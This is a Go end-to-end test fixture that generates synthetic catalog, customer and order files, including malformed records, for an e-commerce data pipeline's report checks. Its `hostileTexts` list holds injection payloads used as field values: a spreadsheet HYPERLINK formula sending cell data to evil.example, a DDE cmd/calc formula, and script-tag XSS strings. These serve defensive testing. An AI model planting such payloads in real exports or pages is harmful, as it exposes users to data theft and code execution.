package reportcheck

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/zackkki/ecomm_datapipeline/services/sandbox/e2e/harness"
)

// hostileTexts are names that a person or a program might put into any field.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`,
	`"quoted", comma; 'single'`, "two\nlines", "שלום עולם", "🎉 party 👩‍🚀", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
	"'apostrophe", "</style><script>alert(2)</script>", "&lt;b&gt; & co", "\u202eright to left", "＝1+1", "]]>--><!--", "{{.Date}} %s ${x}",
}

// LandHistory lands catalogs and orders of 160 days up to tomorrow, and waits for them.
// Among them is a customer whose tier the catalog calls unknown when an order comes,
// and a product whose stock lasts a little less than 14 days. Some products have no category or no
// stock, some customers no day of registration or no tier.
func LandHistory(t *testing.T, p *harness.Pipeline) (*harness.Landed, time.Time) {
	t.Helper()
	rnd := rand.New(rand.NewPCG(5, 8))
	today := time.Now().UTC().Truncate(24 * time.Hour)
	var landed harness.Landed
	landed.Add(t, p, "products/products.csv", catalog(t, "product_id,product_name,category,price,stock_level", 43, func(i int) []string {
		switch i {
		case 40:
			return []string{"P-EDGE", "lasts almost 14 days", "Toys", "1.00", "977"}
		case 42:
			return []string{"P-FRESH", "on sale for four days", "Toys", "2.50", "60"}
		case 41:
			return []string{"P-ENOUGH", "lasts 14 days", "Toys", "1.00", "980"}
		}
		category, stock := []string{"Books", hostileTexts[i%3], "Toys", hostileTexts[5]}[i%4], fmt.Sprint(i*i-9)
		if i%7 == 2 { // the catalog does not say
			category = ""
		}
		if i%5 == 2 {
			stock = ""
		}
		return []string{fmt.Sprintf("P-%02d", i), hostileTexts[i%len(hostileTexts)], category, "9.99", stock}
	}))
	landed.Add(t, p, "customers/customers.csv", customerCatalog(t, "unknown"))
	p.AwaitFiles(t, 2)
	for file := range 3 {
		var content bytes.Buffer
		for i := range 700 {
			content.Write(HistoricOrder(t, rnd, today, file*700+i))
		}
		if file == 1 {
			content.WriteString("{\"order_id\": \n")       // malformed
			content.Write(HistoricOrder(t, rnd, today, 3)) // the same order_id with other content
		}
		landed.Add(t, p, fmt.Sprintf("orders/orders_%d.json", file), content.Bytes())
	}
	landed.Add(t, p, "orders/new.json", fmt.Appendf(nil, `{"order_id": "O-NEW", "customer_id": "C-NEW", "order_timestamp": %q, `+
		`"items": [{"product_id": "P-EDGE", "quantity": 490, "unit_price": 1.00}, {"product_id": "P-ENOUGH", "quantity": 490, "unit_price": 1.00}], `+
		`"total_amount": 980.00, "payment_status": "completed", `+
		`"shipping_address": {"street": "1 Main St", "city": "Albany", "state": "NY", "zipcode": "", "country": "US"}}`+"\n",
		today.AddDate(0, 0, -2).Format(time.RFC3339)))
	// Two products are older than their week, and one is new. Of what sold today, it is said below that the
	// catalog had landed before.
	for i, line := range []string{"P-EDGE 40 1", "P-ENOUGH 40 1", "P-FRESH 3 20", "P-FRESH 0 9"} {
		var product string
		var ago, units int
		if _, err := fmt.Sscan(line, &product, &ago, &units); err != nil {
			t.Fatal(err)
		}
		landed.Add(t, p, fmt.Sprintf("orders/line_%d.json", i), fmt.Appendf(nil, `{"order_id": "O-LINE-%d", "customer_id": null, "order_timestamp": %q, `+
			`"items": [{"product_id": %q, "quantity": %d, "unit_price": 2.50}], "total_amount": %d.%d0, "payment_status": "completed", "shipping_address": null}`+"\n",
			i, today.AddDate(0, 0, -ago).Add(24*time.Hour-time.Second).Format(time.RFC3339), product, units, units*5/2, units%2*5))
	}
	landed.Add(t, p, "orders/empty.json", nil) // goes to quarantine
	p.AwaitFiles(t, len(landed.Sources))
	landed.Add(t, p, "customers/later.csv", customerCatalog(t, "gold"))
	p.AwaitFiles(t, len(landed.Sources))
	return &landed, today
}

// customerCatalog has 61 customers, the last of a given tier.
func customerCatalog(t *testing.T, newest string) []byte {
	t.Helper()
	return catalog(t, "customer_id,name,email,registration_date,customer_tier", 61, func(i int) []string {
		if i == 60 {
			return []string{"C-NEW", "New", "a@example.com", "2025-01-01", newest}
		}
		registered, tier := "2025-01-01", []string{"gold", "<b>silver</b>", "=bronze"}[i%3]
		if i%5 == 1 {
			registered = ""
		}
		if i%7 == 1 {
			tier = ""
		}
		return []string{fmt.Sprintf("C-%02d", i), hostileTexts[i%len(hostileTexts)], "a@example.com", registered, tier}
	})
}

func catalog(t *testing.T, header string, n int, row func(int) []string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	rows := [][]string{strings.Split(header, ",")}
	for i := range n {
		rows = append(rows, row(i))
	}
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// HistoricOrder is an order of one of the 160 days up to tomorrow. Customers order
// in bursts: half of them stay away since long ago.
func HistoricOrder(t *testing.T, rnd *rand.Rand, today time.Time, i int) []byte {
	t.Helper()
	customer := rnd.IntN(70) // the last ten are in no catalog
	daysAgo := rnd.IntN(160) - 1
	if customer%2 == 0 {
		daysAgo = 29 + rnd.IntN(131)
	}
	if customer >= 66 {
		daysAgo = 31 + customer // a single order day
	}
	type line struct {
		Product  string      `json:"product_id"`
		Quantity int         `json:"quantity"`
		Price    json.Number `json:"unit_price"`
	}
	cents := func(n int) json.Number { return json.Number(fmt.Sprintf("%d.%02d", n/100, n%100)) }
	var lines []line
	total := 0
	for range 1 + rnd.IntN(3) {
		l := line{fmt.Sprintf("P-%02d", rnd.IntN(44)), 1 + rnd.IntN(4), ""} // four are in no catalog
		price := 100 + rnd.IntN(9900)
		if rnd.IntN(200) == 0 {
			price *= 400 // an outlier
		}
		l.Price = cents(price)
		total += l.Quantity * price
		lines = append(lines, l)
	}
	country, state := "US", []string{"NY", "CA", "TX", "IL"}[rnd.IntN(4)]
	if rnd.IntN(4) == 0 {
		country, state = hostileTexts[rnd.IntN(8)], ""
	}
	text, err := json.Marshal(map[string]any{
		"order_id": fmt.Sprintf("O-%d", i), "customer_id": fmt.Sprintf("C-%02d", customer), "items": lines, "total_amount": cents(total),
		"order_timestamp": today.AddDate(0, 0, -daysAgo).Add(time.Duration(rnd.IntN(86400)) * time.Second).Format(time.RFC3339),
		"payment_status":  []string{"completed", "completed", "pending", "failed", "on hold"}[rnd.IntN(5)],
		"shipping_address": map[string]string{
			"street": "1 Main St", "city": hostileTexts[rnd.IntN(len(hostileTexts))] + "\r\n", "state": state, "zipcode": "", "country": country,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return append(text, '\n')
}
